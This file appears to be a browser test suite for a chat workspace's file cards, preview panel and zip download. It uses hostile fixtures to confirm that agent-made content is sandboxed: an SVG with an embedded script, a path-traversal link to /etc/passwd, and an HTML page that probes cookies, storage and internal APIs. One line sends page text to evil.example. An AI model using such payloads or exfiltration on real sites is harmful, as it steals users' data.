// Files: cards, the panel and its previews, what active content may not do, and
// all of it without JavaScript too.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { ask, clean, finished, launch, open } from './browser.mjs';
import { chromium, lacks, scripted, start } from './harness.mjs';

const skip = lacks('Chromium', existsSync(chromium));
const out = '/mnt/user-data/outputs';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 80 40"><rect width="80" height="40" fill="#17674C"/><script>alert(1)</script></svg>';
const report = '# Report\n\n![The chart](chart.svg)\n\n![Elsewhere](https://example.org/x.png) ![Outside](../../../etc/passwd.png)\n\nSee [the data](data.csv).\n';
const files = {
  'report.md': report,
  'chart.svg': svg,
  'data.csv': 'city,n\nLyon,1\nBrest,2\n',
  'main.py': 'def f(x):\n    return x  # "quoted"\n',
  'page.html': `<!doctype html><title>x</title><p id="o">…</p><script>
    const tries = {
      cookie: () => document.cookie, storage: () => localStorage.length, parent: () => parent.document.title, top: () => top.location.href,
    };
    const open = Object.keys(tries).filter((k) => { try { tries[k](); return true; } catch { return false; } });
    Promise.allSettled([fetch('/api/threads/search', { method: 'POST', body: '{}' }), fetch('/ui/threads')]).then((list) => {
      for (const r of list) if (r.status === 'fulfilled') open.push('fetch');
      document.querySelector('#o').textContent = open.length ? 'open: ' + open : 'all shut';
    });
  </script>`,
};
const write = (name) => ({ name: 'write_file', args: { description: 'write', path: `${out}/${name}`, content: files[name] } });
const script = scripted(
  { tool_calls: Object.keys(files).map(write) },
  { tool_calls: [{ name: 'present_files', args: { filepaths: Object.keys(files).map((n) => `${out}/${n}`) } }] },
  { text: `Here is the [report](${out}/report.md).\n\n![The chart](${out}/chart.svg) and ![again](chart.svg) and ![gone](https://example.org/y.png)`, rate: 30 });
let fawn, browser, thread;
const halfWay = []; // what was asked for in vain while the answer streamed

before(async () => {
  if (skip) return;
  [fawn, browser] = await Promise.all([start({ shared: true }), launch()]);
  const page = await open(browser, fawn.base, { viewport: { width: 1000, height: 800 } });
  page.on('response', (r) => { if (r.status() >= 400) halfWay.push(`${r.status()} ${r.url()}`); });
  thread = await ask(page, fawn.base, script);
  await finished(page);
  await page.context().close();
});
after(async () => { await browser?.close(); await fawn?.stop(); });

const path = (name) => 'mnt/user-data/outputs/' + name;
const visit = async (page, query = '') => {
  await page.goto(`${fawn.base}/workspace/chats/${thread}${query}`);
  await page.waitForSelector('article.turn .cards .file');
};
const card = (page, name) => page.locator('article.turn .cards .file', { hasText: name });
const shown = (page) => page.innerText('#panel h2');
const loaded = (page, selector) => page.waitForFunction((s) => { const i = document.querySelector(s); return i?.complete && i.naturalWidth > 0; }, selector);

test('a card opens the panel with preview, code, copy, download and a way back', { skip }, async () => {
  const page = await open(browser, fawn.base, { permissions: ['clipboard-read', 'clipboard-write'] });
  await visit(page);
  await card(page, 'main.py').locator('a.open').click();
  await page.waitForSelector('#panel .src');
  assert.equal(await shown(page), 'main.py');
  await page.waitForURL(/\?file=/);
  // The tick stands for a moment only.
  await page.evaluate(() => {
    const icon = document.querySelector('#panel [data-copy="source"] use');
    new MutationObserver(() => { window.ticked ||= icon.getAttribute('href').endsWith('#check'); }).observe(icon, { attributes: true });
  });
  await page.click('#panel [data-copy="source"]');
  await page.waitForFunction(() => window.ticked);
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), files['main.py']);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#panel a[download]')]);
  assert.equal(download.suggestedFilename(), 'main.py');
  const [tab] = await Promise.all([page.context().waitForEvent('page'), page.click('#panel a[target="_blank"]')]);
  await tab.waitForSelector('.filepage .src');
  await tab.close();
  await card(page, 'data.csv').locator('a.open').click();
  await page.waitForSelector('#panel table.grid');
  assert.equal(await page.locator('#panel tbody tr').count(), 2);
  await page.locator('#panel .tabs a').nth(1).click();
  await page.waitForSelector('#panel .src');
  await page.reload();
  await page.waitForSelector('#panel .src');
  assert.equal(await shown(page), 'data.csv');
  await page.click('#panel [data-panel-close]');
  await page.waitForSelector('#panel', { state: 'hidden' });
  assert.notEqual(await page.evaluate(() => document.activeElement.tagName), 'BODY');
  await page.reload();
  await page.waitForSelector('#panel', { state: 'hidden' });
  await page.click('#files-button'); // opens the main result; its place among the others leads to their list
  await page.waitForSelector('#panel iframe');
  assert.equal(await shown(page), 'page.html');
  await page.click('#panel .steps-nav a.meta');
  await page.waitForSelector('#panel .cards.one');
  assert.equal(await page.locator('#panel .file').count(), 5);
  assert.deepEqual(page.wrong.filter((w) => !/connect-src|Refused to connect/.test(w)), [], 'all but what page.html tries in vain');
});

test('on a phone the panel covers the page, and Back closes it', { skip }, async () => {
  const page = await open(browser, fawn.base, { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });
  await visit(page);
  await card(page, 'report.md').locator('a.open').tap();
  await page.waitForSelector('#panel .doc');
  const box = await page.locator('#panel').boundingBox();
  assert.deepEqual([box.x, box.y, box.width], [0, 0, 390]);
  const tabs = page.locator('#panel .tabs a');
  assert.deepEqual(await tabs.evaluateAll((all) => all.map((a) => [a.getBoundingClientRect().width < 44, a.querySelector('.icon').checkVisibility()])), [[true, true], [true, true]]);
  await page.locator('#panel').getByRole('link', { name: 'Code', exact: true }).tap();
  await page.waitForSelector('#panel .src');
  const back = page.locator('#panel [data-panel-close]');
  assert.ok((await back.boundingBox()).x < 20, 'the way back is where it is on any phone');
  await back.tap();
  await page.waitForSelector('#panel', { state: 'hidden' });
  assert.equal(page.url(), `${fawn.base}/workspace/chats/${thread}`);
  await card(page, 'report.md').locator('a.open').tap();
  await page.waitForSelector('#panel .doc');
  await page.goBack();
  await page.waitForSelector('#panel', { state: 'hidden' });
  assert.equal(page.url(), `${fawn.base}/workspace/chats/${thread}`);
  await page.tap('[data-sheet="open"]');
  await page.waitForSelector('dialog.sheet[open]');
  await page.tap('dialog.sheet [data-sheet="close"]');
  await page.waitForFunction(() => !document.querySelector('dialog.sheet'));
  clean(page);
});

test('a document shows the pictures beside it and links to its neighbours, and none from elsewhere', { skip }, async () => {
  const page = await open(browser, fawn.base);
  await visit(page, '?file=' + encodeURIComponent(path('report.md')));
  await loaded(page, '#panel .doc img');
  assert.equal(await page.locator('#panel .doc img').count(), 1);
  assert.equal(await page.getAttribute('#panel .doc img', 'alt'), 'The chart');
  await page.click('#panel .doc a[data-file]');
  await page.waitForSelector('#panel table.grid');
  await visit(page);
  await loaded(page, '.ans img');
  assert.deepEqual(await page.locator('.ans img').evaluateAll((l) => l.map((i) => new URL(i.src).pathname)), Array(2).fill(`/ui/threads/${thread}/view/${path('chart.svg')}`));
  assert.deepEqual(halfWay, [], 'a half-typed address loads nothing');
  await page.click('.ans a[data-file]');
  await page.waitForSelector('#panel .doc');
  clean(page);
});

test('a page the agent made runs without any rights', { skip }, async () => {
  const page = await open(browser, fawn.base);
  await page.context().addCookies([{ name: 'secret', value: 'x', url: fawn.base }]);
  await visit(page, '?file=' + encodeURIComponent(path('page.html')));
  const frame = page.frameLocator('#panel iframe');
  await frame.locator('#o', { hasText: /shut|open/ }).waitFor();
  assert.equal(await frame.locator('#o').innerText(), 'all shut');
  await page.goto(`${fawn.base}/ui/threads/${thread}/view/${path('page.html')}`);
  const alone = page.frameLocator('iframe');
  await alone.locator('#o', { hasText: /shut|open/ }).waitFor();
  assert.doesNotMatch(await alone.locator('#o').innerText(), /cookie|storage|fetch/, 'opened alone it has no rights either');
  let left = 0;
  await page.route('https://evil.example/**', (r) => { left += 1; return r.abort(); });
  const refused = page.waitForEvent('console', (m) => /frame-src/.test(m.text()));
  await alone.locator('#o').evaluate(() => { location.href = 'https://evil.example/?' + document.body.innerText; });
  await refused;
  assert.equal(left, 0, 'opened alone it takes its content nowhere');
  page.wrong.length = 0; // the browser says what it refused
  page.on('dialog', (d) => { page.wrong.push('dialog'); d.dismiss(); });
  const api = await fetch(`${fawn.base}/api/threads/${thread}/artifacts/${path('page.html')}`);
  assert.match(api.headers.get('content-disposition') ?? '', /attachment/);
});

test('a file shows itself while the model writes it, then as what was written', { skip }, async () => {
  const page = await open(browser, fawn.base);
  const content = '# Grüße 🦌\n\n' + Array.from({ length: 150 }, (_, i) => `Line ${i} of "many".`).join('\n') + '\n';
  await page.context().addInitScript(() => {
    window.seen = [];
    new MutationObserver(() => {
      const t = document.querySelector('#panel [data-growing]')?.textContent;
      if (t !== undefined && t !== window.seen.at(-1)) window.seen.push(t);
    }).observe(document, { subtree: true, childList: true, characterData: true });
  });
  const id = await ask(page, fawn.base, scripted(
    { text: 'I write.', gate: 'grow', tokens: 1, rate: 20, arg_chunks: 160, tool_calls: [{ name: 'write_file', args: { description: 'write', path: `${out}/long.md`, content } }] },
    { text: 'Done.' }));
  await page.locator('article.turn', { hasText: 'I write.' }).waitFor();
  await fawn.script.open('grow');
  await page.waitForFunction(() => window.seen.length > 0);
  await page.waitForURL(/\?file=/);
  assert.equal(await shown(page), 'long.md');
  assert.equal(await page.evaluate(() => document.activeElement?.closest('#panel')), null, 'the focus stays where it was');
  await finished(page);
  await page.locator('#panel .md.doc h2', { hasText: 'Grüße 🦌' }).waitFor();
  assert.match(await page.innerText('#panel .doc'), /Line 149 of "many"/);
  const seen = await page.evaluate(() => window.seen);
  assert.ok(seen.length > 5, `it grew ${seen.length} times`);
  for (const [i, t] of seen.entries()) {
    assert.ok(content.startsWith(t), `no beginning of the file: ${t.slice(-60)}`);
    assert.ok(i === 0 || t.length > seen[i - 1].length, 'it shrank');
  }
  assert.equal(await page.evaluate(async (url) => (await fetch(url)).text(), `/api/threads/${id}/artifacts/${path('long.md')}`), content);
  clean(page);
});

test('all files come as one archive, from the panel and without JavaScript', { skip }, async () => {
  for (const javaScriptEnabled of [true, false]) {
    const page = await open(browser, fawn.base, { javaScriptEnabled });
    await page.goto(`${fawn.base}/workspace/chats/${thread}`);
    await page.click('#files-button');
    if (javaScriptEnabled) await page.click('#panel .steps-nav a.meta'); // from the main result to the list
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download all (.zip)' }).click()]);
    assert.match(download.suggestedFilename(), /\.zip$/);
    const body = Buffer.concat(await (await download.createReadStream()).toArray()).toString('latin1');
    assert.equal(body.slice(0, 2), 'PK');
    for (const name of Object.keys(files)) assert.ok(body.includes(name), name);
    assert.deepEqual(page.wrong.filter((w) => !/connect-src|Refused to connect/.test(w)), [], 'all but what page.html tries in vain');
    await page.context().close();
  }
});
